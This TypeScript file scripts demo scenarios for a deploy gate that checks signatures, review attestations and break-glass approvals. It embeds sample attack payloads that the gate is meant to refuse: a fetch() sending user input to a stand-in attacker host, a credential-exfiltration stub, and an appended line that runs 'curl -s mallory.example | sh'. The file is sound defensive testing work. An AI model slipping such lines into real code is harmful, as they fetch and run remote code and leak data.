// The demo's scenarios: one honest release, the attacks the deploy gate must refuse, and the human decisions on the
// way to production — a deploy approved through its environment (by the change's own author: refused), and a
// break-glass (accepted once, flagged; refused the second time). Each runs through the real actions under their
// identities and is told as it happens: who did what, what each stage said, the verdict, and the signed record.

import { createHash } from 'node:crypto';
import { appendFileSync, copyFileSync, readdirSync, readFileSync } from 'node:fs';
import { join, relative } from 'node:path';
import {
  type DeployCheckId,
  type DeployReport,
  describeDecision,
  describeReport,
  readDecisionRecord,
} from '@twokey/core';
import type { FakeUser } from '../github-fake';
import { type AcmeApp, BREAK_GLASS_ENVIRONMENT, forgedReviewStatement, type Merge, PRODUCTION } from './acme-app';
import {
  type BreakGlassRequest,
  type DeployResult,
  IDENTITIES,
  type Pipeline,
  type RunPeople,
  runBreakGlass,
  runBuild,
  runDeploy,
  runSign,
  type ScenarioFiles,
  type StageResult,
  scenarioFiles,
  signAsBuildIdentity,
  verifyOffline,
} from './pipeline';
import type { Terminal } from './terminal';

export type Expected = 'accepted' | 'refused';

/** Said in capitals wherever an artifact is accepted under a break-glass (docs/break-glass-predicate.md). */
export const BREAK_GLASS_FLAG = 'BREAK-GLASS: ACCEPTED WITHOUT AN INDEPENDENT REVIEW';

/** How a scenario ended, against what it had to show. */
export interface ScenarioOutcome {
  name: string;
  title: string;
  expected: Expected;
  /** The deploy gate's verdict; `error` when it gave none (the action failed without a report). */
  verdict: Expected | 'error';
  /** Accepted under a break-glass, flagged. */
  flagged: boolean;
  /** What `twokey verify` must say by hand, and why when it is not the deploy gate's verdict. */
  offline: { expected: Expected; why?: string };
  /** `twokey verify`'s exit code on the same files (0 accepted, 1 refused). */
  offlineExitCode: number;
  /** Whether the verdict, its reasons and the offline verdict are what the scenario must show. */
  asExpected: boolean;
  /** What did not go as it must, in words. */
  problems: string[];
  files: ScenarioFiles;
}

interface Scenario {
  name: string;
  title: string;
  expected: Expected;
  /** The deploy checks that must fail, so a refusal is for the right reason. */
  mustFail: DeployCheckId[];
  /** Must be accepted under a break-glass, flagged in capitals. */
  flagged?: boolean;
  /**
   * `twokey verify`'s verdict when it is not the deploy gate's, and why: it judges the artifact on the bundles it is
   * given, where the gate judged one deploy of it.
   */
  offline?: { expected: Expected; why: string };
  run(context: ScenarioContext): Promise<void>;
}

interface ScenarioContext {
  pipeline: Pipeline;
  files: ScenarioFiles;
  t: Terminal;
  /** Problems found while running (a stage that should have refused and did not …). */
  problems: string[];
  /** The deploy gate's result, set by `deploy`. */
  deployed?: DeployResult;
}

export function scenarios(app: AcmeApp): Scenario[] {
  const { alice, bob, mallory, carol, dave, erin } = app.people;
  // carol, the release manager, approves every deploy job of these releases through the production environment.
  const byCarol = (startedBy: FakeUser): RunPeople => ({ startedBy, approvedBy: [carol] });
  const breakGlass: BreakGlassRequest = {
    startedBy: erin,
    approvedBy: [dave],
    reason: 'every greeting crashes on an empty name: production is down',
    incident: 'https://status.acme.example/incidents/42',
    duration: '2h',
  };
  return [
    {
      name: 'honest',
      title: 'An honestly reviewed change',
      expected: 'accepted',
      mustFail: [],
      run: async (c) => {
        tellMerge(c, app.reviewed, `${alice.login} opens`, `${bob.login} approves its head commit`);
        await build(c, app.reviewed.commit, { greeting: 'Bonjour' });
        await sign(c, app.reviewed.commit, true);
        await deploy(c, app.reviewed.commit, byCarol(alice));
      },
    },
    {
      name: 'self-approved',
      title: 'A self-approved change',
      expected: 'refused',
      mustFail: ['artifact-signature', 'review-attestation'],
      run: async (c) => {
        tellMerge(c, app.selfApproved, `${mallory.login} opens`, `${mallory.login} approves it herself`);
        await build(c, app.selfApproved.commit, {
          greeting: 'Hello',
          payload: "fetch('https://metrics.mallory.example/collect', { method: 'POST', body: name }).catch(() => {});",
        });
        await sign(c, app.selfApproved.commit, false);
        await deploy(c, app.selfApproved.commit, byCarol(mallory));
      },
    },
    {
      name: 'approved-after-merge',
      title: 'A change approved only after it was merged',
      expected: 'refused',
      mustFail: ['artifact-signature', 'review-attestation'],
      run: async (c) => {
        const pr = app.approvedAfterMerge.pullRequest;
        c.t.line(`  ${mallory.login} opens PR #${pr.number} "${pr.title}" and squash-merges it herself, unreviewed,`);
        c.t.line(
          `  onto main as ${short(app.approvedAfterMerge.commit)}; an hour later ${bob.login} approves the merged pull request.`,
        );
        await build(c, app.approvedAfterMerge.commit, { greeting: 'Salut' });
        await sign(c, app.approvedAfterMerge.commit, false);
        await deploy(c, app.approvedAfterMerge.commit, byCarol(mallory));
      },
    },
    {
      name: 'unsigned',
      title: 'An unsigned artifact',
      expected: 'refused',
      mustFail: ['artifact-signature', 'review-attestation'],
      run: async (c) => {
        tellMerge(c, app.unsigned, `${bob.login} opens`, `${alice.login} approves its head commit`);
        await build(c, app.unsigned.commit, { greeting: 'Hola' });
        c.t.step('sign', 'skipped', 'never ran: the release went from build straight to deploy');
        await deploy(c, app.unsigned.commit, byCarol(bob));
      },
    },
    {
      name: 'build-signed-itself',
      title: 'A build that signed itself',
      expected: 'refused',
      mustFail: ['artifact-signature', 'review-attestation'],
      run: async (c) => {
        const { commit, message } = app.pushed;
        c.t.line(
          `  ${mallory.login} pushes "${message}" straight onto main as ${short(commit)}: no pull request, no review.`,
        );
        c.t.line(
          `  The build job runs her code, so it holds the build identity's OIDC token and signs whatever it likes.`,
        );
        await build(c, commit, {
          greeting: 'Hi',
          payload: "process.env.AWS_SECRET_ACCESS_KEY && console.error('exfiltrating credentials');",
        });
        const artifact = { name: 'app.js', digest: { sha256: sha256Of(c.files.artifact) } };
        const forged = forgedReviewStatement({ commit, artifact, author: mallory, approver: bob });
        await signAsBuildIdentity(c.pipeline, c.files, commit, forged);
        c.t.step(
          'forge',
          'attack',
          `app.js signed, and a review attestation claiming ${bob.login} approved PR #77, both as ${IDENTITIES.build}`,
        );
        await deploy(c, commit, byCarol(mallory));
      },
    },
    {
      name: 'tampered',
      title: 'An artifact changed after signing',
      expected: 'refused',
      mustFail: ['artifact-signature', 'review-attestation', 'build-provenance'],
      run: async (c) => {
        copyRelease(c, 'honest');
        appendFileSync(
          c.files.artifact,
          "\nimport('node:child_process').then((cp) => cp.exec('curl -s mallory.example | sh'));\n",
        );
        c.t.line(`  The honest release's app.js and all three of its bundles, but ${mallory.login} appends a line to`);
        c.t.line(`  app.js on its way to production (a poisoned cache, a swapped download).`);
        await deploy(c, app.reviewed.commit, byCarol(alice));
      },
    },
    {
      name: 'deploy-approved-by-author',
      title: "A deploy approved by the change's own author",
      expected: 'refused',
      mustFail: ['deploy-approval'],
      run: async (c) => {
        copyRelease(c, 'honest');
        c.t.line(
          `  The honest release of ${alice.login}'s PR #${app.reviewed.pullRequest.number} again (same app.js, same bundles), but`,
        );
        c.t.line(
          `  ${bob.login} starts its deploy and ${alice.login}, one of ${PRODUCTION}'s reviewers, approves it herself: GitHub's`,
        );
        c.t.line(`  "prevent self-review" stops only ${bob.login}, who started the run, not the change's author.`);
        await deploy(c, app.reviewed.commit, { startedBy: bob, approvedBy: [alice] }, 'attack');
      },
    },
    {
      name: 'break-glass',
      title: 'An unreviewed hotfix under a break-glass',
      expected: 'accepted',
      mustFail: [],
      flagged: true,
      run: async (c) => {
        const { commit, message } = app.hotfix;
        c.t.line(`  3 a.m., ${PRODUCTION} is down. ${erin.login}, on call, pushes "${message}" straight onto main as`);
        c.t.line(`  ${short(commit)}: no pull request, nobody awake to review it.`);
        await build(c, commit, { greeting: 'Hello', payload: "if (!name) name = 'world';" });
        await sign(c, commit, false);
        await breakGlassStage(c, commit, breakGlass);
        await deploy(c, commit, byCarol(erin));
      },
    },
    {
      name: 'break-glass-again',
      title: 'The same break-glass used a second time',
      expected: 'refused',
      mustFail: ['break-glass'],
      offline: {
        expected: 'accepted',
        why: 'judges the artifact, deployed once under the break-glass (flagged); this second deploy is on record, FAILED',
      },
      run: async (c) => {
        copyRelease(c, 'break-glass');
        c.files.alsoVerifyWith.push(join(c.pipeline.out, 'break-glass', 'deploy'));
        c.t.line(
          `  Later that night, within the break-glass's 2 h window, ${erin.login} deploys the same hotfix again with the`,
        );
        c.t.line(
          `  same break-glass (same app.js, same bundles); ${carol.login} approves the deploy job. The gate finds the`,
        );
        c.t.line(`  first deploy's decision record in acme/app's attestation store.`);
        await deploy(c, app.hotfix.commit, byCarol(erin));
      },
    },
  ];
}

/** Another scenario's artifact and the bundles its deploy gate was shown, copied into this one's directory. */
function copyRelease(c: ScenarioContext, name: string): void {
  const from = join(c.pipeline.out, name);
  copyFileSync(join(from, 'app.js'), c.files.artifact);
  for (const file of readdirSync(join(from, 'bundles'))) {
    copyFileSync(join(from, 'bundles', file), join(c.files.bundles, file));
  }
}

/** Runs every scenario in order; each leaves its files in `<out>/<name>/`. */
export async function runScenarios(pipeline: Pipeline, app: AcmeApp, t: Terminal): Promise<ScenarioOutcome[]> {
  const list = scenarios(app);
  const outcomes: ScenarioOutcome[] = [];
  for (const [index, scenario] of list.entries()) {
    t.heading(`${index + 1}/${list.length}  ${scenario.title}`);
    const context: ScenarioContext = { pipeline, files: scenarioFiles(pipeline, scenario.name), t, problems: [] };
    await scenario.run(context);
    outcomes.push(await conclude(scenario, context));
  }
  return outcomes;
}

// ── stages, as the story tells them ────────────────────────────────────────────────────────────────────────

function tellMerge(c: ScenarioContext, merge: Merge, opens: string, approves: string): void {
  const pr = merge.pullRequest;
  c.t.line(`  ${opens} PR #${pr.number} "${pr.title}", ${approves},`);
  c.t.line(`  and it is squash-merged onto main as ${short(merge.commit)}.`);
}

async function build(c: ScenarioContext, commit: string, change: { greeting: string; payload?: string }) {
  const result = await runBuild(c.pipeline, c.files, commit, change);
  if (!result.ok || result.bundles.length === 0) {
    c.problems.push('the build stage failed');
    c.t.step('build', false, 'the build action failed:');
    showErrors(c, result);
    return;
  }
  const digest = sha256Of(c.files.artifact);
  c.t.step('build', true, `dist/app.js built (sha256:${digest.slice(0, 12)}…); SLSA provenance signed as`);
  c.t.detail(IDENTITIES.build, 'dim');
}

async function sign(c: ScenarioContext, commit: string, shouldSign: boolean) {
  const result = await runSign(c.pipeline, c.files, commit);
  if (result.ok) {
    c.t.step('sign', true, 'review verified on the GitHub API; app.js and a review attestation signed as');
    c.t.detail(IDENTITIES.sign, 'dim');
    if (!shouldSign) c.problems.push('the sign action signed a change it must refuse');
    return;
  }
  c.t.step('sign', false, 'refused to sign; nothing was signed:');
  showErrors(c, result);
  if (shouldSign) c.problems.push('the sign action refused an honestly reviewed change');
  if (result.bundles.length > 0) c.problems.push('the sign action failed but left signed bundles');
}

async function breakGlassStage(c: ScenarioContext, commit: string, request: BreakGlassRequest) {
  const { startedBy, approvedBy } = request;
  const approvers = approvedBy.map((u) => u.login).join(', ');
  const result = await runBreakGlass(c.pipeline, c.files, commit, request);
  if (!result.ok || result.bundles.length === 0) {
    c.problems.push('the break-glass stage failed');
    c.t.step('break', false, 'the break-glass action failed:');
    showErrors(c, result);
    return;
  }
  c.t.step(
    'break',
    'attack',
    `${startedBy.login} runs the platform's break-glass workflow; ${approvers} approves it through ${BREAK_GLASS_ENVIRONMENT}:`,
  );
  c.t.detail(`"${request.reason}" (${request.incident})`);
  c.t.detail(
    `a break-glass for ${PRODUCTION}, in place of the review only, until ${result.expiresAt ?? '(unknown)'}, signed as`,
  );
  c.t.detail(IDENTITIES.breakGlass, 'dim');
}

/** The deploy job, approved through the production environment by `people.approvedBy` (`attack`: not as it must be). */
async function deploy(c: ScenarioContext, commit: string, people: RunPeople, approval: true | 'attack' = true) {
  const approvers = people.approvedBy.map((u) => u.login).join(', ');
  c.t.step(
    'approve',
    approval,
    `${people.startedBy.login} starts the deploy; ${approvers} approves its job through the ${PRODUCTION} environment`,
  );
  const result = await runDeploy(c.pipeline, c.files, commit, people);
  c.deployed = result;
  const report = result.report;
  if (!report) {
    c.t.step('deploy', false, 'the deploy gate wrote no report:');
    showErrors(c, result);
    return;
  }
  const accepted = result.ok && result.verified && report.verdict === 'pass';
  const flagged = accepted && report.artifacts.some((a) => a.breakGlass);
  c.t.step(
    'deploy',
    accepted,
    accepted ? c.t.ok(flagged ? 'accepted, FLAGGED: under a break-glass' : 'accepted') : c.t.bad('refused'),
  );
  // The policy line is the same in every scenario (the introduction names the policy once).
  c.t.detail(describeReport(report).replace(/^policy [^\n]*\n\n?/, ''));
  if (result.deployApproval) {
    c.t.detail(
      `deploy approval (who approved this run through ${PRODUCTION}) signed as ${IDENTITIES.deploy}: ${shown(c, result.deployApproval)}`,
      'dim',
    );
  }
  const record = result.record ? recordResult(result.record) : undefined;
  if (result.record && record) {
    const what = `decision record ${record} (SLSA verification summary) signed as ${IDENTITIES.deploy}: ${shown(c, result.record)}`;
    c.t.detail(record === 'FAILED' ? `${what} — a refusal is on record too` : what, 'dim');
  }
  if (!result.record) c.problems.push('the deploy job left no signed decision record');
  else if (record !== (accepted ? 'PASSED' : 'FAILED')) {
    c.problems.push(
      `the decision record says ${record ?? 'nothing readable'}, the deploy gate ${accepted ? 'accepted' : 'refused'}`,
    );
  }
}

/** PASSED or FAILED: what a signed decision record (a Sigstore bundle of a SLSA verification summary) says. */
function recordResult(path: string): 'PASSED' | 'FAILED' | undefined {
  try {
    const bundle = JSON.parse(readFileSync(path, 'utf8')) as { dsseEnvelope?: { payload?: string } };
    const statement = JSON.parse(Buffer.from(bundle.dsseEnvelope?.payload ?? '', 'base64').toString('utf8'));
    return readDecisionRecord(statement)?.result;
  } catch {
    return undefined;
  }
}

/** A file of the output directory as the output names it: relative to the directory. */
function shown(c: ScenarioContext, path: string): string {
  return relative(c.pipeline.out, path);
}

function showErrors(c: ScenarioContext, result: StageResult): void {
  const errors = result.errors.length > 0 ? result.errors : [`exit code ${result.run.exitCode}`];
  for (const error of errors) c.t.detail(`✗ ${error}`, 'red');
}

/** Compares what happened with what the scenario must show, and asks `twokey verify` for its verdict offline. */
async function conclude(scenario: Scenario, c: ScenarioContext): Promise<ScenarioOutcome> {
  const problems = [...c.problems];
  const report: DeployReport | undefined = c.deployed?.report;
  const accepted = c.deployed?.ok === true && c.deployed.verified && report?.verdict === 'pass';
  const verdict: ScenarioOutcome['verdict'] = report ? (accepted ? 'accepted' : 'refused') : 'error';
  if (verdict !== scenario.expected)
    problems.push(`the deploy gate's verdict is ${verdict}, expected ${scenario.expected}`);
  if (verdict === 'refused' && c.deployed?.ok) problems.push('the deploy step succeeded although the gate refused');
  const failed = new Set(
    report?.artifacts.flatMap((a) => a.checks.filter((k) => k.verdict === 'fail').map((k) => k.id)),
  );
  const notFailed = scenario.mustFail.filter((id) => !failed.has(id));
  if (report && notFailed.length > 0)
    problems.push(`expected these checks to fail, they did not: ${notFailed.join(', ')}`);
  const flagged = accepted && Boolean(report?.artifacts.some((a) => a.breakGlass));
  if (flagged !== (scenario.flagged ?? false)) {
    problems.push(flagged ? 'accepted under a break-glass, unexpectedly' : 'not accepted under the break-glass');
  }
  if (flagged && !c.deployed?.run.summary.includes(BREAK_GLASS_FLAG)) {
    problems.push(`the deploy step's summary does not say ${BREAK_GLASS_FLAG}`);
  }

  const offline = await verifyOffline(c.pipeline, c.files);
  const offlineVerdict = offline.exitCode === 0 ? 'accepted' : offline.exitCode === 1 ? 'refused' : 'error';
  const offlineExpected = scenario.offline?.expected ?? verdict;
  if (offlineVerdict === offlineExpected && offlineVerdict === verdict) {
    c.t.step(
      'verify',
      true,
      `twokey verify gives the same verdict offline: ${offlineVerdict} (exit ${offline.exitCode})`,
    );
  } else if (offlineVerdict === offlineExpected) {
    c.t.step(
      'verify',
      true,
      `twokey verify says ${offlineVerdict} (exit ${offline.exitCode}): it ${scenario.offline?.why}`,
    );
  } else {
    problems.push(`twokey verify says ${offlineVerdict} (exit ${offline.exitCode}), the deploy gate ${verdict}`);
    c.t.step('verify', false, `twokey verify disagrees: ${offlineVerdict} (exit ${offline.exitCode})`);
    if (offline.stderr.trim()) c.t.detail(offline.stderr.trim(), 'red');
  }
  // What the deploy job signed, read back: its decision record listed under the artifact, a flagged break-glass.
  const readBack = offline.report?.artifacts[0];
  if (offline.report && c.deployed?.record) {
    const decisions = readBack?.decisions ?? [];
    const own = decisions.find((d) => d.source.endsWith(shown(c, c.deployed!.record!)));
    if (!own) problems.push('twokey verify does not list the decision record');
    else if (own.result !== (verdict === 'accepted' ? 'PASSED' : 'FAILED')) {
      problems.push(`twokey verify reads the decision record as ${own.result}`);
    }
    if (decisions.length > 0) {
      c.t.detail(`it lists the decision record${decisions.length > 1 ? 's' : ''} under ${readBack?.artifact.name}:`);
      for (const d of decisions) c.t.detail(`  ${describeDecision(d)}`, 'dim');
    }
  }
  if (offline.report && flagged) {
    if (readBack?.breakGlass) c.t.detail(`and says ${BREAK_GLASS_FLAG}`);
    else problems.push(`twokey verify does not say ${BREAK_GLASS_FLAG}`);
  }

  const asExpected = problems.length === 0;
  const must = scenario.expected === 'accepted' ? 'accepted, as it must be' : 'refused, as it must be';
  if (asExpected) c.t.step('result', true, c.t.ok(must));
  else {
    c.t.step('result', false, c.t.bad(`not as expected (it must be ${scenario.expected})`));
    for (const problem of problems) c.t.detail(`✗ ${problem}`, 'red');
  }
  return {
    name: scenario.name,
    title: scenario.title,
    expected: scenario.expected,
    verdict,
    flagged,
    offline: scenario.offline ?? { expected: scenario.expected },
    offlineExitCode: offline.exitCode,
    asExpected,
    problems,
    files: c.files,
  };
}

function sha256Of(path: string): string {
  return createHash('sha256').update(readFileSync(path)).digest('hex');
}

function short(sha: string): string {
  return sha.slice(0, 7);
}
